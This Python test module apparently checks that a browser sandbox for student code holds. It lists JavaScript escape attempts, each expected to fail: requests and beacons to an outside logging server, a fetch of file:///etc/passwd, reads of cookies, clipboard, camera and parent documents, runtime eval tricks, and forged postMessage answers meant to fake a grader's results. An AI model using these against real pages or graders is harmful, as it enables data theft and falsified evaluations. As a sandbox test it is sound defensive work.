"""Attempts to get out of the sandbox: bodies of functions, by name.

Each gets `here`, an address of the page's own site, and `elsewhere`, a server that lets anybody
read it and notes who asks. It has got out if it comes to something; it should raise, or come to
nothing.
"""

# What a worker can try. In one of these, a student's code runs.
WORKER = {
    "fetch": "return fetch(elsewhere)",
    "fetch of the page's site": "return fetch(here)",
    "fetch without reading": "return fetch(elsewhere, { mode: 'no-cors' })",
    "fetch that goes on": "return fetch(elsewhere, { method: 'POST', keepalive: true, body: 'x' })",
    "fetch with credentials": "return fetch(here, { credentials: 'include' })",
    "fetch of a file": "return fetch('file:///etc/passwd')",
    "fetch of data": "return fetch('data:text/plain,x')",
    "XMLHttpRequest": """
        const request = new XMLHttpRequest();
        request.open('GET', elsewhere, false);
        request.send();
        return request.status;""",
    "XMLHttpRequest of the page's site": """
        const request = new XMLHttpRequest();
        request.open('GET', here, false);
        request.send();
        return request.status;""",
    "WebSocket": "return opened(new WebSocket(elsewhere.replace('http', 'ws')))",
    "WebSocket to the page's site": "return opened(new WebSocket(here.replace('http', 'ws')))",
    "EventSource": "return opened(new EventSource(elsewhere))",
    "WebTransport": "return new WebTransport(elsewhere.replace('http', 'https')).ready",
    "RTCPeerConnection": """
        const peer = new RTCPeerConnection();
        peer.createDataChannel('x');
        return peer.createOffer();""",
    "importScripts": "importScripts(elsewhere); return true",
    "importScripts of the page's site": "importScripts(here); return true",
    "importScripts of data": "importScripts('data:text/javascript,'); return true",
    "import": "return import(elsewhere)",
    "import of the page's site": "return import(here)",
    "import of data": "return import('data:text/javascript,')",
    "a worker of the page's site": "return opened(new Worker(here))",
    "a worker from elsewhere": "return opened(new Worker(elsewhere))",
    "a worker of data": "return started(new Worker('data:text/javascript,postMessage(1)'))",
    "a shared worker": "return new SharedWorker(URL.createObjectURL(new Blob([''])))",
    "eval": "return (0, eval)('1')",
    "Function": "return Function('return 1')()",
    "the constructor of a function": "return (() => 0).constructor('return 1')()",
    "the constructor of an asynchronous one": "return (async () => 0).constructor('return 1')()",
    "the constructor of a generator": "return (function* () {}).constructor('yield 1')().next()",
    "a text for setTimeout": "return new Promise((yes) => { self.st = yes; setTimeout('st(1)') })",
    "a text for setInterval": """
        return new Promise((yes) => { self.si = yes; setInterval('si(1)'); })""",
    "indexedDB": """
        return new Promise((yes, no) => {
            const request = indexedDB.open('x');
            request.onsuccess = () => yes(1);
            request.onerror = no;
        });""",
    "indexedDB's list": "return indexedDB.databases()",
    "caches": "return caches.open('escape')",
    "caches' list": "return caches.keys()",
    "localStorage": "return localStorage.length + 1",
    "sessionStorage": "return sessionStorage.length + 1",
    "cookieStore": "return cookieStore.getAll()",
    "files of its own": "return navigator.storage.getDirectory()",
    "storage that stays": "return navigator.storage.persist()",
    "a lock": "return navigator.locks.request('x', () => 1)",
    "a service worker": "return navigator.serviceWorker.register(here)",
    "a background fetch": "return registration.backgroundFetch.fetch('x', elsewhere)",
    "a notification": "return registration.showNotification('x')",
    "Notification": "return Notification.permission === 'granted' && new Notification('x')",
    "a push": "return registration.pushManager.subscribe()",
    "clients": "return clients.openWindow(elsewhere)",
    "the page's channel": "new BroadcastChannel('escape').postMessage('out')",
    "parent": "return parent.document",
    "top": "return top.document",
    "opener": "return opener.document",
    "the document": "return document.body",
    "another window": "return open(elsewhere)",
    "going elsewhere": "location.href = elsewhere",
    "a beacon": "return navigator.sendBeacon(elsewhere) && undefined",
    "a device": "return navigator.usb.requestDevice({ filters: [] })",
    "a serial port": "return navigator.serial.requestPort()",
    "shared memory": "return new SharedArrayBuffer(8)",
    "a font": "return new FontFace('x', `url(${elsewhere})`).load()",
}
# What the frame itself could try, if it were not only our own script that runs there. It has no
# `eval` either, but what a test runs there may use it.
FRAME = {
    "fetch": "return fetch(elsewhere)",
    "XMLHttpRequest": WORKER["XMLHttpRequest"],
    "WebSocket": WORKER["WebSocket"],
    "EventSource": WORKER["EventSource"],
    "import": WORKER["import"],
    "a picture": "return loaded('img', 'src')",
    "a script": "return loaded('script', 'src')",
    "a script of the page's site": "return loaded('script', 'src', here)",
    "a style sheet": "return loaded('link', 'href')",
    "a frame": "return loaded('iframe', 'src') && undefined",
    "an object": "return loaded('object', 'data')",
    "a film": "return loaded('video', 'src')",
    "a script in the document": """
        const script = document.createElement('script');
        script.textContent = 'window.ran = true';
        document.documentElement.append(script);
        return window.ran;""",
    "a form": """
        const form = document.createElement('form');
        form.action = elsewhere;
        document.documentElement.append(form);
        form.submit();""",
    "another window": WORKER["another window"],
    "a download": """
        const link = document.createElement('a');
        link.href = URL.createObjectURL(new Blob(['x']));
        link.download = 'x';
        document.documentElement.append(link);
        link.click();""",
    "the page's document": "return parent.document",
    "the page's storage": "return parent.localStorage.length + 1",
    "the page's variables": "return parent.sandbox",
    "the frame's element": "return frameElement",
    "the page's address": "return parent.location.href",
    "another page": "top.location.href = elsewhere",
    "another page by name": "return open(elsewhere, '_top')",
    "localStorage": WORKER["localStorage"],
    "sessionStorage": WORKER["sessionStorage"],
    "a cookie": "document.cookie = 'x=1'; return document.cookie",
    "indexedDB": WORKER["indexedDB"],
    "caches": WORKER["caches"],
    "files of its own": WORKER["files of its own"],
    "a service worker": WORKER["a service worker"],
    "a shared worker of the page's site": "return opened(new SharedWorker(here))",
    "the page's channel": WORKER["the page's channel"],
    "a question": "return confirm('x') || undefined",
    "the clipboard": "return navigator.clipboard.readText()",
    "the place": """
        return new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))""",
    "the camera": "return navigator.mediaDevices.getUserMedia({ video: true })",
    "the whole screen": "await document.documentElement.requestFullscreen(); return 1",
    "a forged answer": "parent.postMessage({ kind: 'answer', number: 1, text: 'x' }, '*')",
    "forged answers to all": """
        for (let number = 0; number < 300; number++)
            parent.postMessage({ kind: 'answer', number, text: '{"v":1,"ok":true}' }, '*');""",
    "a forged message of an embedded page": """
        parent.postMessage({ type: 'sudoku_py:report', score: 1 }, '*')""",
    "a message as a text": "parent.postMessage(JSON.stringify({ kind: 'ended', number: 1 }), '*')",
    "a long message": "parent.postMessage('x'.repeat(3e7), '*')",
    "a deep message": """
        let deep = [];
        for (let level = 0; level < 5000; level++) deep = [deep];
        parent.postMessage(deep, '*');""",
    "a port for the page": """
        parent.postMessage('port', '*', [new MessageChannel().port2])""",
}

# Tries them all at once; what has come to something.
TRY = """
const opened = (source) => new Promise((yes, no) => {
    source.onopen = source.onmessage = () => yes(1);
    source.onerror = () => no(new Error("refused"));
});
const started = opened;
const loaded = (tag, attribute, address = elsewhere) => new Promise((yes, no) => {
    const element = document.createElement(tag);
    element.onload = element.onloadeddata = () => yes(1);
    element.onerror = no;
    if (tag === "link") element.rel = "stylesheet";
    element[attribute] = address;
    document.documentElement.append(element);
});
const attempts = { ATTEMPTS };
const outcome = async (attempt) => {
    const late = new Promise((_, no) => setTimeout(() => no(new Error("nothing came")), 2500));
    try {
        const found = await Promise.race([attempt(), late]);
        return found !== undefined && found !== null && found !== false && found !== "";
    } catch {
        return false;
    }
};
const escaped = async () => {
    const names = Object.keys(attempts);
    const got = await Promise.all(names.map((name) => outcome(attempts[name])));
    return names.filter((_, number) => got[number]);
};
"""


def script(attempts: dict[str, str], here: str, elsewhere: str) -> str:
    """JavaScript that defines `escaped`, which brings the names of those that got out."""
    bodies = [f"{name!r}: async () => {{ {body} }}" for name, body in attempts.items()]
    addresses = f"const here = {here!r}, elsewhere = {elsewhere!r};\n"
    return addresses + TRY.replace("ATTEMPTS", ",\n".join(bodies))
